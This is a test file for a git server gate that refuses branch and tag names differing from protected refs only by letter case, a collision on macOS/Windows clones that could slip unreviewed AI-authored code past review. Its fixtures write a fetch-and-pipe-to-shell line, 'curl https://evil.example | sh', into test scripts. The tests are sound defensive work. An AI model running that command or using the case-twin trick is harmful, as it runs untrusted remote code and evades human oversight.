import * as assert from 'assert';
import { commitFile, policyJson, serverRef, setup } from '../helpers/gateServer';
import { makeKey } from '../helpers/reviewerKeys';

/**
 * attack20 01: a branch or tag whose name differs from a protected branch's only by letter case. On macOS and
 * Windows clones both names are one file under .git/refs, so the first fetch that moves `Main` makes
 * `origin/main` (or, for a tag `MAIN`, what `main` resolves to) the pushed commit there. The server refuses such
 * names (confusingRefName.ts shadowingRefName). Real bare server with `install --server`.
 */
describe('server gate: names that differ from a protected branch or tag only by letter case (attack20 01, attack24 3, real server)', function () {
  this.timeout(240_000);
  const AI =
    'agent change\n\nAssisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=1 human=0 untracked=0';

  it('a branch Main and a tag MAIN at unreviewed AI code are refused; other names still land', () => {
    const s = setup(policyJson(makeKey('bob'), makeKey('carol'), { protectedTags: ['v*'] }));
    const { ada, server } = s;
    const ai = commitFile(ada, 'evil.sh', 'curl https://evil.example | sh\n', AI);
    for (const ref of ['refs/heads/Main', 'refs/heads/MAIN', 'refs/tags/MAIN', 'refs/heads/Release/2.0']) {
      const push = ada.gitResult(['push', '--no-verify', 'origin', `${ai}:${ref}`]);
      assert.notStrictEqual(push.status, 0, `${ref} landed: ${push.stderr}`);
      assert.match(push.stderr, /letter case/, ref);
      assert.strictEqual(server.gitResult(['rev-parse', '-q', '--verify', ref]).status, 1, `${ref} is on the server`);
    }
    // Unprotected names that are no protected branch's twin land as before.
    const ok = ada.gitResult(['push', '--no-verify', 'origin', `${ai}:refs/heads/feature/main-fix`]);
    assert.strictEqual(ok.status, 0, ok.stderr);
  });

  it('a tag V2.0 beside the reviewed protected tag v2.0, or V3.0 while v* is protected, is refused (attack24 3)', () => {
    // A case twin of a protected tag: on a macOS/Windows clone the fetch that brings V2.0 makes v2.0 its commit.
    const s = setup(policyJson(makeKey('bob'), makeKey('carol'), { protectedTags: ['v*'] }));
    const { ada, server } = s;
    const main = serverRef(s, 'refs/heads/main');
    const release = ada.gitResult(['push', '--no-verify', 'origin', `${main}:refs/tags/v2.0`]);
    assert.strictEqual(release.status, 0, release.stderr);
    const ai = commitFile(ada, 'deploy.sh', 'curl https://evil.example | sh\n', AI);
    for (const ref of ['refs/tags/V2.0', 'refs/tags/V3.0']) {
      const push = ada.gitResult(['push', '--no-verify', 'origin', `${ai}:${ref}`]);
      assert.notStrictEqual(push.status, 0, `${ref} landed: ${push.stderr}`);
      assert.match(push.stderr, /letter case/, ref);
      assert.strictEqual(server.gitResult(['rev-parse', '-q', '--verify', ref]).status, 1, `${ref} is on the server`);
    }
    // Even at a landed commit (a protected tag may name one), a twin of the existing v2.0 is refused.
    const landed = ada.gitResult(['push', '--no-verify', 'origin', `${main}:refs/tags/V2.0`]);
    assert.notStrictEqual(landed.status, 0, landed.stderr);
    // An unprotected tag that is no protected tag's twin lands as before.
    const ok = ada.gitResult(['push', '--no-verify', 'origin', `${ai}:refs/tags/build-7`]);
    assert.strictEqual(ok.status, 0, ok.stderr);
  });

  it('with every tag protected, a twin of any existing tag is refused (attack24 3)', () => {
    const s = setup();
    const { ada } = s;
    const main = serverRef(s, 'refs/heads/main');
    assert.strictEqual(ada.gitResult(['push', '--no-verify', 'origin', `${main}:refs/tags/rel1`]).status, 0);
    const twin = ada.gitResult(['push', '--no-verify', 'origin', `${main}:refs/tags/REL1`]);
    assert.notStrictEqual(twin.status, 0, twin.stderr);
    assert.match(twin.stderr, /letter case/);
    assert.strictEqual(ada.gitResult(['push', '--no-verify', 'origin', `${main}:refs/tags/rel2`]).status, 0);
  });
});
